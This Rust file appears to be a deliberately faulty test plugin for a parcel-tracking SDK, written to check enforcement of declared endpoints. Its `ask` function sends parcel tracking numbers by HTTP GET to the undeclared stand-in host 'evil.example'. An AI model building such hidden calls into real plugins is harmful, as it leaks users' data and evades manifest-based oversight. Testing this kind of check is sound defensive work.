//! Sin: `ask` names endpoints that the manifest does not: a URL for numbers that end in 0,
//! the name `nowhere` for all others.

use posthouse_sdk::prelude::*;

struct UndeclaredEndpoint;

impl Tracking for UndeclaredEndpoint {
    fn ask(task: Task) -> Result<Want, Fault> {
        let number = &task.parcels[0].number;
        let endpoint = if number.ends_with('0') { "https://evil.example/" } else { "nowhere" };
        Ok(http::get(endpoint, vec![text::field("number", plain(number))]).want())
    }

    fn read(task: Task, _: Reply) -> Result<Reading, Fault> {
        Ok(Reading::Tracks(fault::no_events("").for_each(&task.parcels)))
    }
}

posthouse_sdk::export!(UndeclaredEndpoint: tracking);
